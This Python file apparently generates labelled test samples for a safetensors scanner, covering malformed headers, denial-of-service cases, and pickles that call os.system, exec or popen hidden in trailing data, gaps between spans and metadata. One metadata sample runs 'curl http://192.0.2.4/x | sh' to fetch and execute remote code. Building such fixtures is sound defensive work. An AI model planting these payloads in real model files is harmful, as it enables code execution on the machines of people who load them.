"""safetensors files."""
import base64
import json
import struct

from common import ident
from pickleasm import Call, G, dumps

FAM = "safetensors"
SZ = {"F64": 8, "F32": 4, "F16": 2, "BF16": 2, "I64": 8, "I32": 4, "I16": 2, "I8": 1, "U8": 1, "BOOL": 1, "F8_E4M3": 1, "F8_E5M2": 1, "U16": 2, "U32": 4, "U64": 8}


def wrap(header, data=b"", n=None, pad=True):
    h = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    if pad:
        h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h) if n is None else n) + h + data


def layout(spec):
    out, off = {}, 0
    for name, dtype, shape in spec:
        n = SZ[dtype]
        for d in shape:
            n *= d
        out[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [off, off + n]}
        off += n
    return out, off


def build(s):
    rng = s.rng(FAM)
    pk = dumps(Call(G("os", "system"), "echo case"), 2)
    bad = lambda data, tech, thr="structure", lab="malicious", name="model.safetensors": s.add(FAM, lab, name, data, tech, thr)
    base, n = layout([("a", "F32", (4, 4)), ("b", "F16", (8,))])
    D = rng.randbytes(n)
    H = lambda **kw: {**base, **kw}
    # structure: a careful loader refuses these, so they are anomalies unless they carry a payload
    S = lambda data, tech, thr="structure": bad(data, tech, thr, "suspicious")
    S(wrap(base, D, n=1 << 60), "header length far past the end", "dos")
    S(wrap(base, D, n=0xFFFFFFFFFFFFFFFF), "header length at the 64-bit end", "dos")
    S(wrap(base, D, n=300_000_000), "header length over the limit", "dos")
    S(wrap(base, D, n=3), "header length too short")
    S(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [32, 48]}), D), "spans overlap")
    S(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [0, 16]}), D[:64]), "second span inside the first")
    S(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [96, 112]}), D + b"\0" * 32), "hole between spans")
    S(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [n - 16, n + 9999]}), D), "span past the end")
    S(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [n, n - 16]}), D), "span runs backwards")
    S(wrap(H(b={"dtype": "F16", "shape": [9], "data_offsets": [64, 80]}), D), "shape disagrees with the span")
    S(wrap(H(b={"dtype": "F16", "shape": [1 << 62, 8], "data_offsets": [64, 80]}), D), "shape overflows")
    S(wrap(H(b={"dtype": "F16", "shape": [-8], "data_offsets": [64, 80]}), D), "negative shape")
    S(wrap(H(b={"dtype": "OBJ", "shape": [8], "data_offsets": [64, 80]}), D), "unknown type")
    S(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [-16, 0]}), D), "negative offset")
    S(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [64.0, 80.5]}), D), "offsets that are not whole")
    S(wrap(json.dumps(base)[:-1].encode() + b',"a":{"dtype":"F32","shape":[4,4],"data_offsets":[0,64]}}', D), "duplicate key")
    S(wrap(json.dumps({"__metadata__": {"a": "1"}})[:-1].encode() + b',"__metadata__":{"a":"2"},' + json.dumps(base)[1:].encode(), D), "duplicate metadata key")
    S(wrap(H(__metadata__={"x": {"y": [1, 2]}}), D), "metadata that is not text")
    S(wrap(b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}", D), "very deep JSON", "dos")
    S(wrap(b'{"__metadata__":' + b'{"a":' * 300 + b"1" + b"}" * 300 + b"}", b""), "deep JSON objects", "dos")
    S(wrap(base, D + b"\0" * 4096), "zeros after the last span")
    S(wrap(b"[1,2,3]", D), "header that is a list")
    bad(wrap(base, D + pk), "pickle after the last span", "code-exec")
    bad(wrap(base, D + b"\x7fELF\x02\x01\x01" + b"\0" * 200), "ELF after the last span", "code-exec", lab="suspicious")
    bad(wrap(base, D + b"PK\x03\x04" + rng.randbytes(100)), "zip after the last span", "trailing-data", lab="suspicious")
    bad(wrap(H(b={"dtype": "F16", "shape": [8], "data_offsets": [64 + len(pk), 80 + len(pk)]}), D[:64] + pk + D[64:]), "pickle in a hole between spans", "code-exec")
    bad(wrap(H(__metadata__={"init": base64.b64encode(pk + b"\0" * 40).decode()}), D), "base64 pickle in the metadata", "code-exec")
    bad(wrap(H(__metadata__={"format": "pt", "blob": base64.b64encode(dumps([Call(G("builtins", "exec"), "print('case')"), "x" * 50], 4)).decode()}), D), "base64 protocol 4 pickle in the metadata", "code-exec")
    bad(wrap(H(__metadata__={"h": dumps([Call(G("os", "popen"), "echo"), "y" * 40], 2).hex()}), D), "hex pickle in the metadata", "code-exec")
    bad(wrap(H(__metadata__={"loader": "import os\nos.system('curl http://192.0.2.4/x | sh')\n"}), D), "Python source in the metadata", "code-exec", lab="suspicious")
    bad(wrap(H(__metadata__={"on_load": "__import__('subprocess').Popen(['echo'])"}), D), "expression in the metadata", "code-exec", lab="suspicious")
    bad(wrap(H(__metadata__={"x": "eval(compile(__import__('base64').b64decode('cHJpbnQoMSk='),'x','exec'))"}), D), "encoded expression in the metadata", "code-exec", lab="suspicious")
    bad(pk, "pickle named safetensors", "code-exec")
    bad(pk + b"\0" * 100, "pickle named safetensors with padding", "code-exec", name="diffusion.safetensors")
    # harmless
    ok = lambda data, tech, name="model.safetensors": s.add(FAM, "benign", name, data, tech)
    for dt in SZ:
        h, n2 = layout([("w.%d" % i, dt, (rng.randint(1, 6), 8)) for i in range(rng.randint(1, 5))])
        ok(wrap({"__metadata__": {"format": "pt"}, **h}, rng.randbytes(n2)), "tensors of %s" % dt)
    h, n2 = layout([("model.layers.%d.%s.weight" % (i, k), "BF16", (8, 8)) for i in range(24) for k in ("self_attn.q_proj", "self_attn.k_proj", "mlp.gate_proj", "input_layernorm")])
    ok(wrap({"__metadata__": {"format": "pt", "total_size": str(n2)}, **h}, rng.randbytes(n2)), "language model shard", "model-00001-of-00002.safetensors")
    ok(wrap(h, rng.randbytes(n2)), "no metadata")
    ok(wrap({"__metadata__": {"ss_tag_frequency": json.dumps({"train": {"1girl": 4, "eval": 2, "system": 1}}), "ss_training_comment": "trained with --exec none", "ss_network_module": "networks.lora", "modelspec.title": "Style LoRA", "modelspec.thumbnail": "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + rng.randbytes(200)).decode(), "sshs_model_hash": "%064x" % rng.getrandbits(256)}, **h}, rng.randbytes(n2)), "LoRA with long metadata", "lora.safetensors")
    ok(wrap({}, b""), "no tensors")
    h, n2 = layout([("scalar", "F32", ()), ("empty", "F32", (0, 4)), ("x", "I64", (1,))])
    ok(wrap(h, rng.randbytes(n2)), "scalar and empty tensors")
    ok(wrap(h, rng.randbytes(n2), pad=False), "header that is not padded")
    ok(wrap(dict(sorted(base.items(), reverse=True)), D), "header order differs from the data order")
    ok(wrap({"__metadata__": {"format": "pt"}, **base}, D), "safetensors under the name bin", "pytorch_model.bin")
    ok(wrap(H(__metadata__={"config": json.dumps({"architectures": ["X"], "exec": True, "import": "os"}), "readme": "Load with torch.load or eval() it? No."}), D), "metadata with JSON and prose")
    s.add(FAM, "inconclusive", "model.safetensors", wrap(base, D)[:60], "cut inside the header")
    s.add(FAM, "review", "model.safetensors", wrap(base, D)[:-20], "cut inside the data")
